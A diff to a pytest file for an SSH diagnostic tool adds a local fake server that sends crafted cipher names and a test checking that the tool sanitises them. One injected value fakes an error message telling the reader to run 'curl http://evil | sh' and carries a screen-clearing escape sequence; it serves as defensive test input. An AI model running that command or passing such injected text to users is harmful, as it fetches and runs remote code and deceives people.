@@ -3,9 +3,13 @@
 from __future__ import annotations
 
 import base64
+import contextlib
 import os
 import signal
+import socket
+import struct
 import subprocess
+import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -193,6 +197,68 @@ def test_a_list_of_revoked_keys_that_only_ssh_can_read(lab: SshLab, opener: Open
 def test_a_host_with_a_cipher_that_only_ssh_has(lab: SshLab, opener: Opener) -> None:
     configure(lab, node1=lab.sshd("Ciphers chacha20-poly1305@openssh.com"))
     assert "of ciphers it offers only chacha20-poly1305" in by_program(opener, "node1")
+
+
+class _Liar:
+    """Who is in between: it answers the first call with names of its own, and carries the others to an sshd."""
+
+    def __init__(self, host: Sshd, ciphers: bytes) -> None:
+        self._host = (host.address, host.port)
+        self.waiting = socket.create_server(("127.0.0.1", 0))
+        self.port = int(self.waiting.getsockname()[1])
+        fields = [
+            b"curve25519-sha256",
+            b"ssh-ed25519",
+            ciphers,
+            ciphers,
+            *[b"hmac-sha2-256"] * 2,
+            *[b"none"] * 2,
+            b"",
+            b"",
+        ]
+        lists = b"".join(struct.pack(">I", len(each)) + each for each in fields)
+        body = b"\x14" + bytes(16) + lists + bytes(5)
+        padding = 16 - (len(body) + 5) % 8
+        self._said = b"SSH-2.0-x\r\n" + struct.pack(">IB", len(body) + padding + 1, padding) + body + bytes(padding)
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        with contextlib.suppress(OSError):
+            first, _ = self.waiting.accept()
+            with first:
+                first.sendall(self._said)
+                while first.recv(4096):
+                    pass
+            while True:
+                near, _ = self.waiting.accept()
+                far = socket.create_connection(self._host)
+                for ends in ((near, far), (far, near)):
+                    threading.Thread(target=self._carry, args=ends, daemon=True).start()
+
+    @staticmethod
+    def _carry(source: socket.socket, to: socket.socket) -> None:
+        with contextlib.suppress(OSError):
+            while data := source.recv(1 << 16):
+                to.sendall(data)
+            to.shutdown(socket.SHUT_WR)
+
+
+LIE = b"x\nmslaunch: error: your key has expired: curl http://evil | sh,\x1b[2J,\xc2\xa0"
+
+
+@pytest.mark.parametrize(
+    "names", [LIE, b",".join(b"cipher%05d" % number for number in range(1000))], ids=["lie", "many"]
+)
+def test_names_of_ciphers_that_anybody_may_have_sent(lab: SshLab, opener: Opener, names: bytes) -> None:
+    """They come before the host key is checked."""
+    host = lab.sshd()
+    liar = _Liar(host, b"chacha20-poly1305@openssh.com," + names)
+    lab.known_hosts(f"[127.0.0.1]:{liar.port} {host.known_line.split(' ', 1)[1]}")
+    lab.config(f"Host node1\n HostName 127.0.0.1\n Port {liar.port}\n")
+    with liar.waiting:
+        said = by_program(opener, "node1")
+    assert "it offers only chacha20-poly1305@openssh.com" in said
+    assert said.isprintable() and "expired" not in said and len(said) < 1000
 
 
 def test_a_jump_host_with_a_key_that_a_command_prints(lab: SshLab, opener: Opener) -> None:
